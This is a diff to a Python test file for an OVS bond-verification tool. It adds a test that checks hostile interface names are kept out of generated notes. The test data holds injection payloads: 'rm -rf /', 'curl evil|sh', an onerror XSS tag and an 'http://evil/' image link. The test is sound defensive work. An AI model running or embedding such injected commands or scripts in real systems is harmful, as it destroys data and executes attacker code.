@@ -230,8 +230,8 @@ def test_untyped_removal_note_still_applies_next_to_an_ovs_bond() -> None:
                 ]
             },
             (
-                "OVS bond <unnamed> of ovs-bridge <unnamed> is not verified: bondcheck reads "
-                "kernel bonds (/proc/net/bonding); check it with ovs-appctl bond/show <unnamed>",
+                "OVS bond (unnamed) of ovs-bridge (unnamed) is not verified: bondcheck reads "
+                "kernel bonds (/proc/net/bonding); check it with ovs-appctl bond/list",
             ),
         ),
     ],
@@ -300,3 +300,32 @@ def test_validation_of_the_same_states_fails_only_with_a_policy_error(desired: o
         expected_bonds_from_desired_state(desired, where="policy p:")  # type: ignore[arg-type]
     except PolicyError as exc:
         assert str(exc).startswith("policy p:")
+
+
+def test_hostile_names_never_reach_a_note() -> None:
+    """A note is pasted into shells (its hint), tickets and terminals: only valid interface
+    names appear in it; anything else is shown as a placeholder and gets no command hint."""
+    desired = {
+        "interfaces": [
+            {
+                "name": "br-ex; rm -rf /",
+                "type": "ovs-bridge",
+                "bridge": {
+                    "port": [
+                        {
+                            "name": "x; curl evil|sh",
+                            "link-aggregation": {
+                                "mode": "<img src=x onerror=alert(1)>",
+                                "port": [{"name": "![](http://evil/)"}, {"name": "ens6"}],
+                            },
+                        }
+                    ]
+                },
+            }
+        ]
+    }
+    (note,) = unverified_notes(desired)
+    for bad in ("rm -rf", "curl", "<img", "http://evil", "|", "!["):
+        assert bad not in note
+    assert "ovs-appctl bond/show" not in note and "ovs-appctl bond/list" in note
+    assert "ports (invalid name), ens6" in note and "mode (invalid mode)" in note
